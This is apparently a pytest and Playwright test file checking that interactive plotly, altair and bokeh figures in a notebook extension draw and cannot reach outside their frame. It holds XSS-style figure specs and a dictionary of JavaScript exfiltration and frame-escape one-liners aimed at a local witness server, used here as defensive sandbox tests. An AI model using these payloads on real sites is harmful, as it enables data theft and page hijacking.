"""Interactive figures in a real browser: they answer the mouse, and nothing in them reaches out of their frame."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from typing import TYPE_CHECKING

import pytest

from ipy_codeinterp.framed import Library, frame
from ipy_codeinterp.interactive import Figure, found

from .lab import OpenNotebook
from .served_page import Witness, listening

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Frame, Page

LOAD = "%load_ext ipy_codeinterp"
PATIENCE = 30_000  # milliseconds

PLOTLY = """%%interp --interactive
import plotly.graph_objects as go
go.Figure(go.Bar(x=["Oslo", "Rome"], y=[17, 42]), layout={"title": {"text": "Sales"}})"""
ALTAIR = """%%interp --interactive
import altair as alt
alt.Chart(alt.Data(values=[{"a": "x", "b": 3}]), title="Bars").mark_bar().encode(x="a:O", y="b:Q", tooltip="b:Q")"""
BOKEH = """%%interp --interactive
from bokeh.io import output_notebook
from bokeh.plotting import figure, show
output_notebook()
p = figure(title="Drift", height=250)
p.line([1, 2], [3, 4])
show(p)"""


@pytest.fixture
def witness() -> Iterator[Witness]:
    with listening() as witness:
        yield witness


@pytest.mark.timeout(240)  # three libraries are imported for the first time
def test_figures_are_drawn_and_answer_the_mouse(open_notebook: OpenNotebook) -> None:
    """plotly, altair and bokeh draw in the Lab, by what is installed here, and say what is under the mouse."""
    page = open_notebook([LOAD, PLOTLY, ALTAIR, BOKEH])
    page.run_all()
    page.wait_idle(timeout=110)
    assert [page.text(cell).split("\n")[0] for cell in (1, 2, 3)] == [
        "plotly figure: Sales. 1 bar",
        "vega-lite figure: Bars. 1 bar. x axis: a, y axis: b",
        "bokeh figure: Drift",
    ]
    for cell in (1, 2, 3):
        assert page.cell(cell).locator("iframe").get_attribute("title") == page.text(cell).split("\n")[0]

    plotly, altair, bokeh = (page.cell(cell).frame_locator("iframe").frame_locator("iframe") for cell in (1, 2, 3))
    plotly.locator(".point path").nth(1).hover(force=True, timeout=PATIENCE)
    assert "42" in (plotly.locator(".hoverlayer .hovertext").first.text_content(timeout=PATIENCE) or "")
    offered = plotly.locator(".modebar-btn").evaluate_all("buttons => buttons.map(each => each.dataset.title)")
    assert "Zoom" in offered and not any(re.search("cloud|share|download|edit", title, re.I) for title in offered)
    altair.locator("svg .mark-rect path").first.hover(timeout=PATIENCE)
    altair.locator("#vg-tooltip-element.visible").wait_for(timeout=PATIENCE)
    bokeh.locator(".bk-Figure canvas").first.wait_for(timeout=PATIENCE)
    assert page.errors() == []


# --- hostile figures ------------------------------------------------------------------------------

# Specifications that make their libraries load, link, or run what they say, if anything lets them.
HOSTILE = """%%interp --interactive
evil = URL
def show(mime, spec):
    display({mime: spec}, raw=True)
link = f"<a href='{evil}/link' target='_self'>click</a><img src='{evil}/text' onerror='top.__pwned = 1'>"
show("application/vnd.plotly.v1+json", {
    "data": [{"type": "scatter", "x": [1], "y": [1], "text": [link], "mode": "text"}],
    "layout": {"title": {"text": link}, "images": [{"source": f"{evil}/image", "sizex": 1, "sizey": 1}]},
    "config": {"plotlyServerURL": evil, "displaylogo": True},
})
show("application/vnd.plotly.v1+json", {
    "data": [{"type": "choropleth", "locations": ["NOR"], "z": [1], "geojson": f"{evil}/geojson"}],
    "layout": {"geo": {"scope": "europe"}},
    "config": {"topojsonURL": f"{evil}/topojson"},
})
show("application/vnd.vegalite.v5+json", {
    "data": {"url": f"{evil}/data.json"}, "mark": {"type": "image", "url": f"{evil}/mark"},
    "usermeta": {"embedOptions": {"config": f"{evil}/config", "actions": True, "ast": False}},
})
show("application/vnd.vegalite.v5+json", {
    "data": {"values": [{"a": 1}]}, "title": "drawn",
    "mark": {"type": "point", "href": f"{evil}/href", "size": 900, "tooltip": f"<img src={evil}/tooltip>"},
    "encoding": {"x": {"field": "a", "type": "quantitative"}},
})
from bokeh.io import output_notebook
from bokeh.models import CustomJS, Div
from bokeh.plotting import show as bokeh_show
output_notebook()
div = Div(text=f"seen <img src={evil}/div onerror='top.__pwned = 2'>")
div.js_on_change("text", CustomJS(code=f"top.__pwned = 3; location = '{evil}/custom'"))
bokeh_show(div)"""


@pytest.mark.timeout(240)  # the same
def test_a_hostile_figure_asks_for_nothing(open_notebook: OpenNotebook, witness: Witness) -> None:
    """Figures whose data name addresses, markup and scripts are drawn, and no request is made, also not by a click."""
    page = open_notebook([LOAD, HOSTILE.replace("URL", json.dumps(witness.url), 1)])
    page.run_all()
    page.wait_idle(timeout=110)
    within = [page.cell(1).locator("iframe").nth(n).content_frame.frame_locator("iframe") for n in range(5)]
    within[0].locator(".textpoint a").click(force=True, timeout=PATIENCE)
    within[3].locator("svg .mark-symbol path").first.click(force=True, timeout=PATIENCE)
    within[4].get_by_text("seen").wait_for(timeout=PATIENCE)

    page.tab.evaluate("url => fetch(url + '/last', { mode: 'no-cors' })", witness.url)
    assert witness.wait_for("/last", 10)
    assert witness.asked == ["/last"]
    assert page.tab.evaluate("window.__pwned") is None


# --- a library that is hostile --------------------------------------------------------------------

# What a script could try, were it to run in the frame in the place of a library. `W` is the witness.
ATTACKS = {
    "image": "new Image().src = W + '/image'",
    "fetch": "fetch(W + '/fetch').catch(() => 0)",
    "beacon": "navigator.sendBeacon(W + '/beacon', 'x')",
    "socket": "new WebSocket(W.replace('http', 'ws') + '/socket')",
    "style": "document.body.style.background = `url(${W}/style)`",
    "sheet": "add('link', { rel: 'stylesheet', href: W + '/sheet' })",
    "prefetch": "add('link', { rel: 'prefetch', href: W + '/prefetch' })",
    "script": "add('script', { src: W + '/script' })",
    "inline": "add('script', { textContent: `new Image().src = '${W}/inline'` })",
    "policy": "add('meta', { httpEquiv: 'Content-Security-Policy', content: '' }); new Image().src = W + '/policy'",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${W}/worker')`])))",
    "frame": "add('iframe', { src: W + '/frame' })",
    "nested": "add('iframe', { srcdoc: `<img src=${W}/nested><script>location = '${W}/nested'</script>` })",
    "object": "add('object', { data: W + '/object' })",
    "form": "const form = add('form', { action: W + '/form', method: 'post' }); form.submit()",
    "window": "window.open(W + '/window')",
    "parent": "parent.location = W + '/parent'",
    "top": "top.location = W + '/top'",
    "page": "top.document.body.textContent = 'taken'",
    "storage": "new Image().src = W + '/storage' + localStorage.length",
}
# Those that leave the frame for another place, where there would be no policy any more.
LEAVING = {
    "location": "location = W + '/location'",
    "refresh": "add('meta', { httpEquiv: 'refresh', content: `0; url=${W}/refresh` })",
    "link": "add('a', { href: W + '/link' }).click()",
    "download": "add('a', { href: W + '/download', download: 'x' }).click()",
    "data": "location = `data:text/html,<img src=${W}/data>`",
    "blob": "location = URL.createObjectURL(new Blob([`<img src=${W}/blob>`], { type: 'text/html' }))",
}
SCRIPT = """
const W = {url};
const add = (name, said) => document.body.appendChild(Object.assign(document.createElement(name), said));
top.postMessage({name}, "*");
{attack};
"""
PAGE = """<!doctype html><title>own</title><p>own</p>
<script>window.begun = []; addEventListener("message", (event) => begun.push(event.data));</script>"""


def figure() -> Figure:
    made = found({"application/vnd.plotly.v1+json": {"data": []}})
    assert made is not None
    return made


def script(witness: Witness, name: str, attack: str) -> str:
    said = {"{url}": json.dumps(witness.url), "{name}": json.dumps(name), "{attack}": attack}
    text = SCRIPT
    for mark, value in said.items():
        text = text.replace(mark, value)
    return text


def opened(browser: Browser, witness: Witness, elements: list[str]) -> Page:
    """A page with those frames in it, when the script of each has begun."""
    witness.page = PAGE + "".join(elements)
    page = browser.new_page()
    page.goto(f"{witness.url}/page")
    page.wait_for_function("count => begun.length === count", arg=len(elements), timeout=PATIENCE)
    return page


def is_refused(frame: Frame) -> bool:
    return frame.url.startswith("chrome-error:")


def wait_until(page: Page, holds: Callable[[], bool]) -> None:
    """At most `PATIENCE`, with the browser at work meanwhile."""
    for _ in range(PATIENCE // 50):
        if holds():
            return
        page.wait_for_timeout(50)
    raise TimeoutError([frame.url[:80] for frame in page.frames])


def test_the_walls_hold_also_where_the_library_is_hostile(browser: Browser, witness: Witness) -> None:
    """A script that runs in the frame makes no request, goes nowhere, and changes nothing of the page around it."""
    attacks = {**ATTACKS, **LEAVING}
    libraries = [Library.of(script(witness, *each), evaluates=True) for each in attacks.items()]
    page = opened(browser, witness, [frame(figure(), library) for library in libraries])
    try:
        wait_until(page, lambda: sum(map(is_refused, page.frames)) >= len(LEAVING))
        page.evaluate("fetch('/last')")
        assert witness.wait_for("/last", 10)
        assert [path for path in witness.asked if path != "/favicon.ico"] == ["/last"]
        assert (page.url, page.inner_text("p")) == (f"{witness.url}/page", "own")
        assert len(page.context.pages) == 1
    finally:
        page.context.close()


@pytest.mark.parametrize("name", ["image", "fetch", "location", "refresh"])
def test_without_the_walls_it_is_seen(browser: Browser, witness: Witness, name: str) -> None:
    """The same scripts in a frame that is only sandboxed are heard by the witness: it sees what it looks for."""
    attack = script(witness, name, {**ATTACKS, **LEAVING}[name]).replace('"', "&quot;")
    page = opened(
        browser, witness, [f'<iframe sandbox="allow-scripts" srcdoc="<body><script>{attack}</script>"></iframe>']
    )
    try:
        assert witness.wait_for(f"/{name}", 10)
    finally:
        page.context.close()


def test_no_other_script_runs(browser: Browser, witness: Witness) -> None:
    """A library whose hash is not the one that the policy names is not run, and the frame says so."""
    good, evil = Library.of("window.Plotly = {}"), Library.of(script(witness, "begun", "0"))
    witness.page = PAGE + frame(figure(), Library(evil.packed, good.digest))
    page = browser.new_page()
    try:
        page.goto(f"{witness.url}/page")
        within = page.frame_locator("iframe").frame_locator("iframe")
        within.get_by_text("not drawn").wait_for(timeout=PATIENCE)
        assert page.evaluate("begun") == []
    finally:
        page.context.close()
